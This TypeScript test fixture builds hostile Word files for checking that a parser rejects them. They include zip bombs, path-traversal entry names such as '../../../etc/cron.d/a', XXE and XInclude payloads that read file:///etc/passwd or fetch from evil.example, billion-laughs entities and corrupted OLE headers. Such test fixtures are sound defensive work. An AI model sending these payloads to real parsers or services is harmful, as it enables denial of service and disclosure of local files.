import { strToU8, zipSync } from 'fflate';
import { hostileDocx } from '../../process/active/testing/hostile-docx.ts';
import { compoundFile } from '../compound-file.ts';
import { zip } from '../zip.ts';
import type { HostileOpening } from './opening.ts';

const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const makeDocument = (xml: string) => hostileDocx({ parts: { 'word/document.xml': xml } });
const withDoctype = (doctype: string, body = '') =>
  makeDocument(
    `<?xml version="1.0"?><!DOCTYPE w:document [${doctype}]><w:document ${word}><w:body>${body}</w:body></w:document>`,
  );
const laughs = Array.from(
  { length: 12 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
).join('');

/** The place of the central directory is in the last 6 bytes but 4. */
const changeCentral = (change: (bytes: Buffer, central: number) => void): Buffer => {
  const bytes = hostileDocx({});
  change(bytes, bytes.readUInt32LE(bytes.length - 6));
  return bytes;
};
const named = (name: string) =>
  zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>', [name]: 'x' });

/** Entries of the directory that all lie at the same place. */
function overlapping(count: number): Buffer {
  const bytes = zip({ 'word/document.xml': 'a'.repeat(5_000_000) });
  const central = bytes.readUInt32LE(bytes.length - 6);
  const entry = bytes.subarray(central, bytes.length - 22);
  const directory = Buffer.concat(Array.from({ length: count }, () => entry));
  const end = Buffer.from(bytes.subarray(-22));
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.length, 12);
  return Buffer.concat([bytes.subarray(0, central), directory, end]);
}

const nested = (depth: number): Buffer => {
  let inner = zip({ 'a.txt': 'a'.repeat(1_000_000) });
  for (let level = 0; level < depth; level++) inner = zip({ 'a.zip': inner });
  return inner;
};

const docx: [string, HostileOpening['build'], slow?: 'slow'][] = [
  ['nothing', () => Buffer.alloc(0)],
  ['a head alone', () => Buffer.from('PK\x03\x04')],
  ['an end alone', () => Buffer.concat([Buffer.from('PK\x05\x06'), Buffer.alloc(18)])],
  ['half of it', () => hostileDocx({}).subarray(0, 500)],
  ['no document', () => zip({ '[Content_Types].xml': '<Types/>' })],
  [
    'a bomb of 400 MB',
    () => Buffer.from(zipSync({ 'word/document.xml': [new Uint8Array(400_000_000), { level: 9 }] })),
    'slow',
  ],
  [
    'ten bombs of 40 MB',
    () =>
      Buffer.from(
        zipSync(
          Object.fromEntries(
            Array.from({ length: 10 }, (_, i) => [
              `word/media/${i}.png`,
              [new Uint8Array(40_000_000), { level: 9 }],
            ]),
          ),
        ),
      ),
    'slow',
  ],
  [
    '60,000 entries',
    () =>
      Buffer.from(
        zipSync(Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`a${i}`, new Uint8Array(0)]))),
      ),
    'slow',
  ],
  ['10,000 entries at one place', () => overlapping(10_000), 'slow'],
  ['archives fifty deep', () => hostileDocx({ parts: { 'word/embeddings/a.zip': nested(50) } })],
  [
    'an entry that says it has 4 GB',
    () => changeCentral((bytes, central) => void bytes.writeUInt32LE(0xfffffffe, central + 24)),
  ],
  [
    'an entry that says it has one byte',
    () => changeCentral((bytes, central) => void bytes.writeUInt32LE(1, central + 24)),
  ],
  [
    'an entry beyond the end',
    () => changeCentral((bytes, central) => void bytes.writeUInt32LE(0xfffffff0, central + 42)),
  ],
  [
    'an entry that is encrypted',
    () => changeCentral((bytes, central) => void bytes.writeUInt16LE(1, central + 8)),
  ],
  [
    'a method that there is not',
    () => changeCentral((bytes, central) => void bytes.writeUInt16LE(99, central + 10)),
  ],
  [
    'a directory at itself',
    () => changeCentral((bytes) => void bytes.writeUInt32LE(bytes.length - 22, bytes.length - 6)),
  ],
  [
    'a directory beyond the end',
    () => changeCentral((bytes) => void bytes.writeUInt32LE(0xfffffffe, bytes.length - 6)),
  ],
  [
    '65,535 entries that are not there',
    () => changeCentral((bytes) => void bytes.writeUInt16LE(0xffff, bytes.length - 12)),
  ],
  [
    'other names in the directory than in the files',
    () => changeCentral((bytes, central) => void bytes.write('word/x', central + 46)),
  ],
  [
    'a checksum that is wrong',
    () => changeCentral((bytes, central) => void bytes.writeUInt32LE(1, central + 16)),
  ],
  ['a path that leads out', () => named('../../../etc/cron.d/a')],
  ['a path from the root', () => named('/etc/passwd')],
  ['a path of Windows', () => named('C:\\Windows\\a.exe')],
  ['a name with a zero', () => named('word/a\0.exe')],
  ['a name that is turned', () => named('word/a\u202egnp.exe')],
  ['a name of 60,000 letters', () => named('a'.repeat(60_000))],
  [
    'an external entity',
    () => withDoctype('<!ENTITY a SYSTEM "file:///etc/passwd">', '<w:p><w:r><w:t>&a;</w:t></w:r></w:p>'),
  ],
  ['an external entity of the web', () => withDoctype('<!ENTITY a SYSTEM "http://evil.example/a">', '&a;')],
  ['a parameter entity', () => withDoctype('<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;')],
  ['an external document type', () => makeDocument('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>')],
  ['a thousand million laughs', () => withDoctype(`<!ENTITY l0 "ha">${laughs}`, '&l12;')],
  [
    'one long entity many times',
    () => withDoctype(`<!ENTITY a "${'a'.repeat(100_000)}">`, '&a;'.repeat(50_000)),
  ],
  ['an entity of itself', () => withDoctype('<!ENTITY a "&a;">', '&a;')],
  [
    'an inclusion of a file',
    () =>
      makeDocument(
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>',
      ),
  ],
  ['a style sheet of the web', () => makeDocument('<?xml-stylesheet href="http://evil.example/a.xsl"?><a/>')],
  ['elements 200,000 deep', () => makeDocument('<a>'.repeat(200_000))],
  [
    'an element of 200,000 attributes',
    () => makeDocument(`<a ${Array.from({ length: 200_000 }, (_, i) => `a${i}="b"`).join(' ')}/>`),
  ],
  ['an attribute of 20 MB', () => makeDocument(`<a b="${'c'.repeat(20_000_000)}"/>`), 'slow'],
  ['XML in UTF-7', () => makeDocument('<?xml version="1.0" encoding="UTF-7"?>+ADw-script+AD4-')],
  ['XML that is noise', () => makeDocument('\ufffe\uffff\u0000\u0001')],
  ['a comment without an end', () => makeDocument(`<!--${'-'.repeat(1_000_000)}`)],
  ['CDATA without an end', () => makeDocument(`<![CDATA[${']'.repeat(1_000_000)}`)],
  [
    'types that lead to themselves',
    () =>
      hostileDocx({
        parts: {
          '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="x/officeDocument" Target="_rels/.rels"/></Relationships>`,
        },
      }),
  ],
  [
    'a document that is a picture',
    () => Buffer.from(zipSync({ 'word/document.xml': strToU8('\x89PNG\r\n\x1a\n') })),
  ],
];

const ole = () => compoundFile('WordDocument', Buffer.alloc(6_000, 1));
const changeOle = (change: (bytes: Buffer) => void): Buffer => {
  const bytes = Buffer.from(ole());
  change(bytes);
  return bytes;
};
const doc: [string, HostileOpening['build']][] = [
  ['nothing', () => Buffer.alloc(0)],
  ['a head alone', () => Buffer.from('d0cf11e0a1b11ae1', 'hex')],
  ['half of it', () => ole().subarray(0, 700)],
  ['sectors of 2^65535 bytes', () => changeOle((bytes) => void bytes.writeUInt16LE(0xffff, 30))],
  ['sectors of one byte', () => changeOle((bytes) => void bytes.writeUInt16LE(0, 30))],
  [
    'a table of four thousand million sectors',
    () => changeOle((bytes) => void bytes.writeUInt32LE(0xfffffff0, 44)),
  ],
  [
    'a directory that is its own next sector',
    () =>
      changeOle((bytes) => {
        const directory = bytes.readUInt32LE(48);
        const table = bytes.readUInt32LE(76);
        bytes.writeUInt32LE(directory, 512 + table * 512 + directory * 4);
      }),
  ],
  ['a directory beyond the end', () => changeOle((bytes) => void bytes.writeUInt32LE(0x0fffffff, 48))],
  [
    'a list of tables that goes round',
    () =>
      changeOle((bytes) => {
        bytes.writeUInt32LE(0, 68);
        bytes.writeUInt32LE(0x0fffffff, 72);
      }),
  ],
  [
    'names without a length',
    () =>
      changeOle((bytes) => {
        const directory = bytes.readUInt32LE(48);
        bytes.writeUInt16LE(0xffff, 512 + directory * 512 + 64);
      }),
  ],
];

export const brokenWordFiles: HostileOpening[] = [
  ...docx.map(([what, build, slow]) => ({
    type: 'docx' as const,
    what,
    build,
    ...(slow && { isSlow: true }),
  })),
  ...doc.map(([what, build]) => ({ type: 'doc' as const, what, build })),
];
